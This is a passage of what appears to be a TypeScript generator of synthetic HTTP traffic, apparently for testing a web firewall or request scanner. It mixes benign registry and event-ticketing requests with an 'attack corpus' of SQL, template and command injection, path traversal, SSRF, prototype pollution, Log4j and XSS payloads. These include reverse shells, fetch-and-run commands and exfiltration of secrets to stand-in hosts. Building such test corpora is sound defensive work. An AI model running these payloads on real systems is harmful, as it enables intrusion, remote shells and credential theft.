                test: 'node --test test/',
                clean: 'rm -rf dist coverage',
                prepublishOnly: 'npm run clean && npm run build',
                lint: "biome check 'src/**/*.ts'",
              },
              dependencies: chance(0.5) ? { 'left-pad': '^1.3.0' } : {},
              engines: { node: '>=20' },
              repository: {
                type: 'git',
                url: `git+https://github.com/example/${name.replace('@', '').replace('/', '-')}.git`,
              },
              readme: pick(READMES),
              _nodeVersion: '22.20.0',
              _npmVersion: '10.9.3',
              dist: { integrity: `sha512-${bytes(64).toString('base64')}`, shasum: hex(40) },
            },
          },
          readme: pick(READMES),
          _attachments: {
            [`${name.split('/').pop()}-${version}.tgz`]: {
              content_type: 'application/octet-stream',
              data: tarball,
              length: Buffer.from(tarball, 'base64').length,
            },
          },
        },
        'lib',
      ),
    );
  }
  for (let i = 0; i < 8; i++) {
    add(
      jreq(
        'readme',
        'PUT',
        `/api/v1/packages/${encodeURIComponent(pick(pkgs))}/readme`,
        { markdown: pick(READMES), renderMath: false },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 5; i++) {
    add(
      jreq(
        'readme',
        'POST',
        `/api/v1/packages/${encodeURIComponent(pick(pkgs))}/releases`,
        {
          tag: `v${int(0, 4)}.${int(0, 12)}.${int(0, 9)}`,
          title: pick(['Bug fixes', 'Security release', 'v3 — breaking changes', 'Spring cleaning 🧹']),
          notes: pick(CHANGELOGS),
          prerelease: chance(0.2),
        },
        'lib',
      ),
    );
  }
  for (let i = 0; i < 6; i++) {
    add(
      jreq(
        'advisory',
        'POST',
        '/api/v1/advisories',
        {
          summary: pick([
            'SQL injection via orderBy',
            'Prototype pollution in merge()',
            'Zip Slip in archive extraction',
            'Template code execution',
            'SSRF in URL preview',
            'ReDoS in Accept-Language parsing',
          ]),
          details: pick(ADVISORIES),
          severity: pick(['low', 'moderate', 'high', 'critical']),
          cvss: { vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N', score: 9.1 },
          affected: [
            {
              package: { ecosystem: 'npm', name: pick(pkgs) },
              ranges: [
                {
                  type: 'SEMVER',
                  events: [{ introduced: '0' }, { fixed: `${int(1, 4)}.${int(0, 9)}.${int(0, 9)}` }],
                },
              ],
            },
          ],
          references: [
            {
              type: 'WEB',
              url: `https://github.com/example/repo/security/advisories/GHSA-${alnum(4).toLowerCase()}-${alnum(4).toLowerCase()}-${alnum(4).toLowerCase()}`,
            },
          ],
          credits: [{ name: pick(NAMES), type: 'FINDER' }],
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 14; i++) {
    add(
      jreq(
        'issue-comment',
        'POST',
        `/api/v1/packages/${encodeURIComponent(pick(pkgs))}/issues/${int(1, 900)}/comments`,
        { body: pick(ISSUE_COMMENTS) },
        'browser',
      ),
    );
  }
  const regSearch: Array<Array<[string, string]>> = [
    [
      ['text', 'keywords:sql orm'],
      ['size', '20'],
      ['from', '40'],
      ['quality', '0.65'],
      ['popularity', '0.98'],
    ],
    [
      ['text', 'author:zoe chart'],
      ['size', '20'],
    ],
    [
      ['text', '"deep merge" -lodash'],
      ['size', '10'],
    ],
    [
      ['text', 'scope:acme not:deprecated'],
      ['size', '50'],
    ],
    [
      ['text', 'テンプレート エンジン'],
      ['size', '20'],
    ],
  ];
  for (const s of regSearch) add(getreq('search', `/-/v1/search?${qs(s)}`, pick<Client>(['lib', 'browser'])));
  add(
    getreq(
      'search',
      `/api/v1/packages/${encodeURIComponent('@acme/ui-kit')}/versions?${qs([
        ['range', '>=2.0.0 <3 || ^3.1.0'],
        ['include', 'deprecated'],
      ])}`,
      'lib',
    ),
  );
  add({
    kind: 'delete',
    method: 'DELETE',
    path: `/-/npm/v1/tokens/token/${uuid()}`,
    headers: hdrs('lib', null),
    body: '',
  });
  add(
    jreq(
      'rest-write',
      'PUT',
      `/-/package/${encodeURIComponent('@acme/ui-kit')}/dist-tags/next`,
      '3.0.0-rc.2',
      'lib',
    ),
  );
  add(
    jreq(
      'webhook',
      'POST',
      '/api/v1/hooks/github',
      {
        ref: 'refs/tags/v2.4.1',
        repository: { full_name: 'example/sqlbird', html_url: 'https://github.com/example/sqlbird' },
        head_commit: {
          id: hex(40),
          message:
            "fix: escape ' in identifiers (#412)\n\nAlso drop the unused `exec` helper and select the right union type for enums.",
          author: { name: "D'Arcy Whitfield", email: 'darcy.w@example.co.uk' },
        },
        pusher: { name: 'darcyw' },
      },
      'lib',
    ),
  );
  add(
    gql(
      'graphql',
      '/api/graphql',
      'query Package($name: String!, $first: Int = 10) {\n  package(name: $name) {\n    name description latestVersion { version publishedAt }\n    advisories(first: $first) { nodes { ghsaId summary severity } }\n  }\n}',
      { name: pick(pkgs), first: 10 },
      'Package',
      'browser',
    ),
  );
}

// ---- ticketing / events ------------------------------------------------------------------------------------

const EVENT_HTML = [
  '<p>Join us for an evening of <em>jazz &amp; poetry</em> at the Union Chapel. Doors open at <strong>19:00</strong>, first set at 19:45.</p><ul><li>Bar open throughout</li><li>Step-free access via the side entrance on Compton Terrace</li></ul><p><a href="https://maps.example.com/?q=Union+Chapel+London" target="_blank" rel="noopener noreferrer">View map</a></p>',
  '<h2 class="ql-align-center">Data &amp; Democracy Forum 2026</h2><p class="ql-align-center"><span style="color: rgb(230, 0, 0);">Limited seats!</span></p><p>Speakers include members of the Commons <strong>Select Committee</strong> on Science, Innovation &amp; Technology.</p><iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/abc123XYZ?showinfo=0"></iframe>',
  '<p>🧘 <strong>Sleep Better Workshop</strong> — learn why adults need 7–9 hours and practical tips for shift workers.</p><ol><li>Science of sleep (45 min)</li><li>Q&amp;A</li><li>Guided wind-down (20 min)</li></ol><p><img src="https://cdn.tickettap.example/events/8812/banner.jpg" alt="Sleep workshop banner" style="width: 100%;"></p>',
  "<p>Concert de musique baroque — <em>Les Arts Florissants</em>. Programme : Rameau, Couperin, Lully.</p><p>Tarif réduit pour les étudiants (-26&nbsp;ans) sur présentation d'un justificatif.</p>",
  '<p dir="rtl">أمسية موسيقية مع فرقة العود الحديثة. الدخول مجاني للأطفال دون سن ١٢ عامًا.</p>',
  '<p>東京ジャズフェスティバル 2026 — 出演：上原ひろみ（予定）ほか。</p><p>※ 再入場不可。</p>',
  '<p><strong>Hackathon: Open Data for Housing</strong></p><p>Bring a laptop. We\'ll provide the APIs, pizza and a <code>docker compose up</code>-ready starter repo.</p><pre><code>git clone https://github.com/example/housing-hack\ncd housing-hack &amp;&amp; docker compose up</code></pre><p>Code of conduct: <a href="/coc">read it here</a>.</p>',
  '<p>Drop-in session for under-18s: no booking needed, just turn up. Parents/guardians welcome.</p><p><br></p><p>Questions? Email <a href="mailto:youth@example.org">youth@example.org</a></p>',
];
const ATTENDEE_QS = [
  'Is there step-free access? My dad uses a wheelchair.',
  "Can I bring my own food? I'm coeliac and venues never have GF options.",
  "What's the refund policy if I can't make it because of a train strike?",
  "Will the 'Select Committee on AI' panel be recorded or streamed?",
  'Is the drop-in session suitable for 16-year-olds, or is it 18+?',
  '¿Habrá traducción simultánea al español?',
  'هل يوجد موقف سيارات قريب من القاعة؟',
  '会場にWi-Fiはありますか？',
  "I bought 2 tickets but my friend can't come — can I transfer one to my sister (name: Aoife O'Brien)?",
  'Do doors really close at 19:45? I finish work at 19:30 in Union Square.',
  'Is there a quiet room? My son is autistic and may need a break.',
];
const PROMOS = [
  'EARLYBIRD25',
  'STUDENT-2026',
  'JAZZ&POETRY',
  "O'REILLY10",
  'FRIENDS_OF_UNION',
  '2FOR1',
  'nhs-staff',
  'SLEEP8',
];

function events(): void {
  for (let i = 0; i < 10; i++) {
    add(
      jreq(
        'cms-html',
        i % 2 ? 'POST' : 'PUT',
        i % 2 ? '/api/events' : `/api/events/${uuid()}`,
        {
          title: pick([
            'Jazz & Poetry Night',
            'Data & Democracy Forum 2026',
            'Sleep Better Workshop',
            'Concert baroque',
            'أمسية العود',
            '東京ジャズフェス',
            'Open Data Hackathon',
            'Youth drop-in',
          ]),
          descriptionHtml: pick(EVENT_HTML),
          startsAt: isoDate(),
          endsAt: isoDate(),
          timezone: pick(['Europe/London', 'Europe/Paris', 'Asia/Tokyo', 'Asia/Riyadh']),
          venue: {
            name: pick(['Union Chapel', "St George's Hall", 'Salle Pleyel', 'Blue Note Tokyo']),
            address: pick(ADDRESSES),
          },
          ticketTiers: [
            { name: 'General', priceMinor: int(500, 5000), currency: 'GBP', capacity: int(50, 800) },
            { name: 'Concession', priceMinor: int(300, 2500), currency: 'GBP', capacity: int(10, 100) },
          ],
          tags: some(['music', 'jazz', 'talk', 'family', 'workshop', 'free', 'accessible'], 1, 3),
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 14; i++) {
    add(
      jreq('prose', 'POST', `/api/events/${uuid()}/questions`, {
        question: pick(ATTENDEE_QS),
        anonymous: chance(0.3),
        notifyOnAnswer: true,
      }),
    );
  }
  for (let i = 0; i < 12; i++) {
    add(
      jreq(
        'rest-write',
        'POST',
        '/api/orders',
        {
          eventId: uuid(),
          tickets: [{ tierId: `tier_${alnum(6)}`, quantity: int(1, 4) }],
          attendee: { name: pick(NAMES), email: pick(EMAILS) },
          promoCode: chance(0.6) ? pick(PROMOS) : null,
          answers: {
            dietary: pick(['', 'vegetarian', 'halal', 'no nuts please!', 'gluten-free (coeliac)']),
            accessibility: pick(['', 'wheelchair space', 'BSL interpreter']),
            howDidYouHear: pick(['Instagram', 'friend', 'the union newsletter', 'Google']),
          },
          marketingConsent: chance(0.4),
          idempotencyKey: uuid(),
        },
        pick<Client>(['browser', 'mobile']),
      ),
    );
  }
  for (let i = 0; i < 4; i++) {
    add(
      jreq(
        'rest-write',
        'POST',
        `/api/orders/${uuid()}/promo`,
        { code: pick(PROMOS) },
        pick<Client>(['browser', 'mobile']),
      ),
    );
  }
  const evSearch: Array<Array<[string, string]>> = [
    [
      ['q', 'jazz'],
      ['city', 'London'],
      ['from', '2026-12-01'],
      ['to', '2026-12-31'],
      ['sort', 'date'],
      ['page', '1'],
    ],
    [
      ['q', '"select committee"'],
      ['category', 'talks'],
      ['free', 'true'],
    ],
    [
      ['q', 'sleep workshop'],
      ['online', 'true'],
    ],
    [
      ['q', 'concert baroque Rameau'],
      ['city', 'Paris'],
      ['lang', 'fr'],
    ],
    [
      ['q', 'family & kids'],
      ['accessible', 'step-free'],
      ['sort', '-popularity'],
    ],
    [
      ['q', 'ジャズ'],
      ['city', '東京'],
    ],
    [
      ['lat', '51.5416'],
      ['lng', '-0.1026'],
      ['radius', '3km'],
      ['categories', 'music,comedy'],
      ['page[size]', '30'],
    ],
  ];
  for (const s of evSearch) add(getreq('search', `/api/events?${qs(s, chance(0.5))}`));
  add(
    form('form', 'POST', `/events/${int(1000, 9999)}/rsvp`, [
      ['name', "Aoife O'Brien"],
      ['guests', '1'],
      ['comment', "Can't wait! I'll be a bit late (work until 7)."],
    ]),
  );
  add(
    form('form', 'POST', '/newsletter/subscribe', [
      ['email', 'zoe@example.fr'],
      ['interests[]', 'jazz'],
      ['interests[]', 'talks'],
      ['consent', 'yes'],
    ]),
  );
  add(
    form('form', 'POST', `/orders/${alnum(8)}/transfer`, [
      ['recipient_name', 'Nguyễn Thị Lan'],
      ['recipient_email', 'lan.nguyen@example.vn'],
      ['note', 'Enjoy the show — drinks are on me at the interval 🍷'],
    ]),
  );
  for (let i = 0; i < 3; i++) {
    const lines = Array.from({ length: int(3, 9) }, () =>
      JSON.stringify({
        ticket: `TT-${alnum(10)}`,
        gate: pick(['A', 'B', 'VIP']),
        scannedAt: isoDate(),
        device: `scanner-${int(1, 12)}`,
        result: pick(['ok', 'ok', 'ok', 'duplicate', 'wrong-event']),
      }),
    );
    add({
      kind: 'ndjson',
      method: 'POST',
      path: '/api/checkins/batch',
      headers: hdrs('mobile', 'application/x-ndjson'),
      body: `${lines.join('\n')}\n`,
    });
  }
  for (let i = 0; i < 4; i++) {
    const evt = {
      id: `evt_${alnum(24)}`,
      object: 'event',
      api_version: '2025-09-30.clover',
      created: 1764300000 + int(0, 90000),
      type: pick(['payment_intent.succeeded', 'charge.refunded', 'checkout.session.completed']),
      data: {
        object: {
          id: `pi_${alnum(24)}`,
          object: 'payment_intent',
          amount: int(500, 20000),
          currency: 'gbp',
          description: `Tickets: ${pick(['Jazz & Poetry Night', "St George's Hall — Sleep Better Workshop"])}`,
          metadata: { order_id: uuid(), promo: pick(PROMOS) },
          receipt_email: pick(EMAILS),
        },
      },
      livemode: true,
      request: { id: `req_${alnum(14)}`, idempotency_key: uuid() },
    };
    const body = JSON.stringify(evt, null, 2);
    add({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/stripe',
      headers: {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        accept: '*/*; q=0.5, application/xml',
        'content-type': 'application/json; charset=utf-8',
        'stripe-signature': `t=${evt.created},v1=${hex(64)}`,
      },
      body,
    });
  }
  const mp = multipart(
    [
      { name: 'alt', value: 'Crowd at the Union Chapel, lit in blue' },
      { name: 'focalPoint', value: '0.5,0.35' },
      {
        name: 'banner',
        filename: 'banner.svg',
        type: 'image/svg+xml',
        value:
          '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1200 400"><rect width="1200" height="400" fill="#1b2a49"/><text x="60" y="220" fill="#fff" font-size="72" font-family="Georgia">Jazz &amp; Poetry</text></svg>',
      },
    ],
    true,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: `/api/events/${uuid()}/media`,
    headers: hdrs('browser', mp.ct),
    body: mp.body,
  });
  add(
    gql(
      'graphql',
      '/graphql',
      'query Events($near: GeoPointInput!, $radiusKm: Float, $query: String, $first: Int) {\n  events(near: $near, radiusKm: $radiusKm, query: $query, first: $first) {\n    nodes { id title startsAt venue { name } lowestPrice { amount currency } }\n  }\n}',
      {
        near: { lat: 51.5416, lng: -0.1026 },
        radiusKm: 5,
        query: pick(['jazz', 'select committee', 'sleep workshop', "children's theatre"]),
        first: 20,
      },
      'Events',
      'mobile',
    ),
  );
  add(
    gql(
      'graphql',
      '/graphql',
      'mutation Ask($eventId: ID!, $text: String!) {\n  askQuestion(eventId: $eventId, text: $text) { id status }\n}',
      { eventId: uuid(), text: pick(ATTENDEE_QS) },
      'Ask',
      'browser',
    ),
  );
  add(
    jreq(
      'merge-patch',
      'PATCH',
      `/api/events/${uuid()}`,
      { capacity: int(100, 900), salesEndAt: isoDate(), descriptionHtml: pick(EVENT_HTML) },
      'browser',
      'application/merge-patch+json',
    ),
  );
  add({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/events/${uuid()}/questions/${uuid()}`,
    headers: hdrs('browser', null),
    body: '',
  });
  add(
    jreq(
      'jsonapi',
      'POST',
      '/api/v1/ticket-holds',
      {
        data: {
          type: 'ticket-holds',
          attributes: { quantity: int(1, 6), 'expires-in': 600 },
          relationships: { tier: { data: { type: 'tiers', id: String(int(1, 999)) } } },
        },
      },
      'browser',
      'application/vnd.api+json',
    ),
  );
}

// ---- cross-domain webhooks and miscellany -----------------------------------------------------------------

function crossDomain(): void {
  add(
    jreq(
      'webhook',
      'POST',
      '/api/v2/hooks/portal-leads',
      {
        event: 'lead.created',
        lead: {
          id: `ld_${alnum(12)}`,
          listingRef: `HL-${int(1000, 9999)}`,
          name: "D'Arcy Whitfield",
          message: pick(VIEWING_MESSAGES),
          source: 'portal',
        },
        sentAt: isoDate(),
      },
      'lib',
    ),
  );
  add({
    kind: 'webhook',
    method: 'POST',
    path: '/api/v1/hooks/github',
    headers: {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      accept: '*/*',
      'content-type': 'application/json',
      'x-github-event': 'issue_comment',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    body: JSON.stringify({
      action: 'created',
      issue: { number: int(1, 900), title: 'orderBy with user input?' },
      comment: { body: pick(ISSUE_COMMENTS), user: { login: 'zoe-l' } },
      repository: { full_name: 'example/sqlbird' },
    }),
  });
  add(
    jreq(
      'webhook',
      'POST',
      '/portal/api/hooks/notify',
      {
        type: 'sms.delivery',
        to: '+447700900123',
        status: 'delivered',
        body: 'Your application HSG-448120 has been received. Reply STOP to opt out.',
      },
      'lib',
    ),
  );
  const reviews = [
    "Agent was brilliant — she'd select three flats that matched exactly what we asked for and the whole thing took a week.",
    'The flat was lovely but the street is loud on Fridays; if you need to sleep 8 hours before an early shift, ask for a back bedroom.',
    'Great gig, terrible sound desk. Someone should drop the bass by about 6 dB and kill the reverb on the vocals.',
    'Workshop was genuinely useful. The bit about shift workers and the union negotiating rest breaks was eye-opening.',
    "Applied online for council tax reduction: took 20 min, got a decision in 9 days. Only gripe — the form rejected my surname (O'Hara) the first time.",
    'Dataset is well documented, but the units table says µmol m⁻² s⁻¹ while the CSV header says mmol. Which one is it?',
    'Had to run `npm cache clean --force` and delete node_modules before 3.0 would install, otherwise fine. 4/5.',
    'Muy buen concierto, aunque la cola para entrar fue eterna (45 min). ¡Repetiría!',
    'كانت الأمسية رائعة، والتنظيم ممتاز، لكن المقاعد كانت غير مريحة قليلاً.',
    'スタッフの対応がとても丁寧でした。また参加したいです。',
    "Landlord fixed the boiler within 24h. Tenants' union told us that's rare around here — five stars.",
    "The podcast's episode on the select committee hearing was the best explainer I've heard. Exec summary: read the transcript.",
    'Bought tickets for my parents; the e-ticket email went to spam (Outlook). Maybe add a "resend" button?',
    'Honestly the cat video in the show notes sold me on the episode 🐱',
    'Grading: 3/5. The `SELECT *` joke landed, the rest of the talk ran 15 min over and we missed the last train.',
    "Vendor's solicitor took forever; the agency kept us updated every step though. Would use again.",
    'Ticket scanner at gate B kept saying "duplicate" for valid tickets. Staff let us through manually, but it took ages.',
    'Perfect for a rainy Sunday — the "sleep 8 hours" playlist actually works, I was out in ten minutes 😴',
  ];
  const reviewPaths = [
    '/api/v2/agents/{id}/reviews',
    '/api/events/{id}/reviews',
    '/v1/albums/{id}/reviews',
    '/v1/shows/{id}/reviews',
    '/portal/api/feedback',
    '/api/datasets/{id}/reviews',
    '/api/v1/packages/sqlbird/reviews',
  ];
  for (let i = 0; i < 22; i++) {
    add(
      jreq('prose', 'POST', pick(reviewPaths).replace('{id}', uuid()), {
        rating: int(1, 5),
        title: pick(['Great', 'Mixed feelings', 'Would recommend', 'Not bad', 'Brilliant!', 'Meh', '']),
        body: pick(reviews),
        wouldRecommend: chance(0.7),
      }),
    );
  }
  const gets: Array<[string, Array<[string, string]>]> = [
    [
      '/api/v2/agents',
      [
        ['q', "O'Neill"],
        ['branch', 'Hove'],
        ['sort', 'name'],
      ],
    ],
    [
      '/api/v2/listings',
      [
        ['status', 'let-agreed'],
        ['updated_since', '2026-11-01T00:00:00Z'],
        ['page', '4'],
        ['per_page', '100'],
      ],
    ],
    [
      '/v1/me/top/tracks',
      [
        ['time_range', 'short_term'],
        ['limit', '50'],
      ],
    ],
    [
      '/v1/shows',
      [
        ['q', 'true crime -murder'],
        ['language', 'en'],
        ['explicit', 'false'],
      ],
    ],
    [
      '/v1/lyrics/search',
      [
        ['q', "can't sleep 'til the morning"],
        ['lang', 'en'],
      ],
    ],
    [
      '/portal/api/services',
      [
        ['category', 'housing'],
        ['audience', 'over-65s'],
        ['lang', 'cy'],
      ],
    ],
    [
      '/portal/api/offices',
      [
        ['near', "St Mary's Road, Hove"],
        ['open_now', 'true'],
      ],
    ],
    [
      '/api/datasets/search',
      [
        ['q', 'ΔG enthalpy'],
        ['subject', 'chemistry'],
        ['sort', '-published'],
      ],
    ],
    [
      '/api/datasets',
      [
        ['q', 'sea ice extent'],
        ['filter', 'resolution_km le 25'],
        ['fields', 'id,title,doi'],
      ],
    ],
    [
      '/-/v1/search',
      [
        ['text', 'sql template literal tagged'],
        ['size', '20'],
        ['from', '0'],
      ],
    ],
    [
      '/api/v1/advisories',
      [
        ['ecosystem', 'npm'],
        ['severity', 'high,critical'],
        ['package', 'merge-*'],
        ['published_after', '2026-01-01'],
      ],
    ],
    [
      '/api/events',
      [
        ['q', "new year's eve"],
        ['price_max', '30'],
        ['currency', 'EUR'],
        ['sort', 'price'],
      ],
    ],
    [
      '/api/events/search',
      [
        ['q', 'stand-up comedy (English)'],
        ['city', 'Berlin'],
        ['page', '2'],
      ],
    ],
    [
      '/api/orders',
      [
        ['status', 'refunded'],
        ['from', '2026-10-01'],
        ['cursor', b64('{"id":8812,"ts":1764300000}')],
      ],
    ],
    [
      '/v1/search',
      [
        ['q', 'Sigur Rós ( )'],
        ['type', 'artist'],
      ],
    ],
    [
      '/api/v2/listings',
      [
        ['q', 'maison 4 pièces jardin'],
        ['ville', 'Nantes'],
        ['prix_max', '1 500 €'],
      ],
    ],
  ];
  for (const [path, pairs] of gets) add(getreq('search', `${path}?${qs(pairs, chance(0.5))}`));
  add(
    jreq(
      'webhook',
      'POST',
      '/v1/hooks/distributor',
      {
        event: 'release.live',
        upc: String(int(100000000000, 999999999999)),
        title: 'Sleep 8 Hours (Rain Mix)',
        artists: ['Mira & the Union Jacks'],
        stores: ['tunewave', 'other'],
      },
      'lib',
    ),
  );
}

property();
music();
government();
science();
registry();
events();
crossDomain();

// ---------------------------------------------------------------------------------------------------------
// Attack corpus
// ---------------------------------------------------------------------------------------------------------

type Slot = 'text' | 'url' | 'file' | 'id' | 'filter' | 'cred' | 'host';

const ppParse = (s: string): unknown => JSON.parse(s);

interface Family {
  readonly name: string;
  readonly slots: readonly Slot[];
  readonly values: readonly unknown[];
  /** key technique: [key, value] */
  readonly keys: ReadonlyArray<readonly [string, unknown]>;
  readonly headers: readonly string[];
}

const SQL = [
  "' OR '1'='1' -- -",
  "1' AND SLEEP(5)#",
  '1 UNION ALL SELECT NULL,NULL,CONCAT(0x7178787a71,IFNULL(CAST(user() AS CHAR),0x20),0x716b6b7671)-- -',
  '1) AND (SELECT 4512 FROM (SELECT(SLEEP(5)))qXyz) AND (8710=8710',
  "'; DROP TABLE listings;--",
  "1' ORDER BY 13-- -",
  "admin'/**/OR/**/1=1#",
  "1;WAITFOR DELAY '0:0:5'--",
  "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
  '1 AND 1=CAST((SELECT current_database()) AS int)',
  "') OR pg_sleep(5)--",
  "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
  '-1 UNION SELECT username,password_hash FROM users--',
  "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
  'price; SELECT pg_sleep(10)--',
  '" OR ""="',
  '1 OR 1=1',
  "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
  "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
  "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
];
const NOSQL_VALUES: unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '^adm', $options: 'i' },
  { $where: 'sleep(5000) || true' },
  { $exists: true },
  { $nin: ['x'] },
  { $ne: 'invalid-password-x' },
  { $where: 'this.password.match(/^a.*/) ? sleep(3000) : 1' },
  "'; return true; var dummy='",
  "' || '1'=='1",
  { $expr: { $function: { body: 'function(){sleep(5000);return true}', args: [], lang: 'js' } } },
  { $or: [{ role: 'admin' }, { _id: { $ne: null } }] },
];
const NOSQL_KEYS: Array<readonly [string, unknown]> = [
  ['$where', 'sleep(5000) || true'],
  ['$where', '1 == 1'],
  ['$or', [{}, { a: 'a' }]],
  ['owner', { $ne: null }],
  ['password', { $regex: '.*' }],
  ['$expr', { $eq: [1, 1] }],
  ['price', { $gt: -1 }],
  ['$lookup', { from: 'users', localField: 'ownerId', foreignField: '_id', as: 'u' }],
];
const TEMPLATE = [
  '{{7*7}}',
  '${7*7}',
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  '<%= 7*7 %>',
  '#{7*7}',
  '${{<%[%\'"}}%\\.',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
  "*{T(java.lang.Runtime).getRuntime().exec('id')}",
  "{% import os %}{{ os.popen('whoami').read() }}",
  "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
  '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  '{php}echo `id`;{/php}',
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  "{{lipsum.__globals__.os.popen('ls -la').read()}}",
];
const COMMAND = [
  '; cat /etc/passwd',
  '| id',
  '$(curl -s http://x7k2.oast.fun/$(whoami))',
  '`sleep 10`',
  '& ping -c 10 127.0.0.1 &',
  '|| nc -e /bin/sh 10.0.0.5 4444',
  ';wget http://203.0.113.9/x.sh -O- | sh',
  'a; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
  '${IFS}cat${IFS}/etc/passwd',
  ';sleep 5;',
  '| powershell -nop -c "iwr http://203.0.113.9/a.ps1 | iex"',
  '& type C:\\Windows\\win.ini',
  '$(sleep 7)',
  "; /bin/bash -c 'id'",
  'test.csv; curl http://198.51.100.7/`uname -a | base64`',
  '|cat</etc/passwd',
];
const PATHS = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//....//etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '/var/www/images/../../../etc/shadow',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
  '../../../../proc/self/environ',
  '/..;/..;/WEB-INF/web.xml',
  '../../../../../../boot.ini',
  '../../.ssh/id_rsa',
  '../../../app/.env',
  '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
  '....\\\\....\\\\....\\\\etc\\\\passwd',
  '/etc/passwd%00.pdf',
];
const SSRF = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://127.0.0.1:2375/containers/json',
  'http://[::1]:6379/',
  'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
  'file:///etc/passwd',
  'http://2130706433/admin',
  'http://0x7f000001/',
  'http://localhost:8500/v1/agent/self',
  'dict://127.0.0.1:11211/stats',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://100.100.100.200/latest/meta-data/',
  'http://127.1:8080/actuator/env',
  'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'http://169.254.170.2/v2/credentials',
  'http://0.0.0.0:9200/_cat/indices',
];
const PP_VALUES: unknown[] = [
  ppParse('{"__proto__":{"isAdmin":true}}'),
  ppParse('{"constructor":{"prototype":{"role":"admin"}}}'),
  ppParse(
    '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
  ),
  ppParse('{"__proto__":{"polluted":"yes"}}'),
  ppParse(
    '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
  ),
  ppParse('{"constructor":{"prototype":{"isAdmin":true,"permissions":["*"]}}}'),
  ppParse('{"__proto__":{"status":510,"statusCode":510}}'),
  ppParse('{"__proto__":{"json spaces":" "}}'),
];
const PP_KEYS: Array<readonly [string, unknown]> = [
  ['__proto__', { isAdmin: true }],
  ['constructor', { prototype: { isAdmin: true } }],
  ['__proto__', { role: 'admin', verified: true }],
  ['__proto__', { toString: 'polluted' }],
  ['__proto__', { 'content-type': 'application/x-www-form-urlencoded' }],
];
const LOG4J = [
  '${jndi:ldap://x7k2.oast.fun/a}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.7:1099/Exploit}',
  '${jndi:dns://${hostName}.c6v8n2.interact.sh}',
  '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.burpcollaborator.net/a}',
  '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.oast.me/b}',
  '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}',
  '${jndi:rmi://198.51.100.4:1389/Basic/Command/Base64/aWQ=}',
  '${${upper:j}ndi:ldaps://x.dnslog.cn/o}',
  '${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/z}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/x}",
  '${jndi:ldap://127.0.0.1#x7k2.oast.fun:1389/a}',
];
const XSS = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  "<svg/onload=fetch('//x7k2.oast.fun/'+document.cookie)>",
  'javascript:alert(1)',
  '"><iframe src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  "'-alert(1)-'",
  "<body onload=alert('XSS')>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<input autofocus onfocus=alert(1)>',
  '"><svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<img src="x" onerror="eval(atob(\'YWxlcnQoZG9jdW1lbnQuY29va2llKQ==\'))">',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

const FAMILIES: readonly Family[] = [
  {
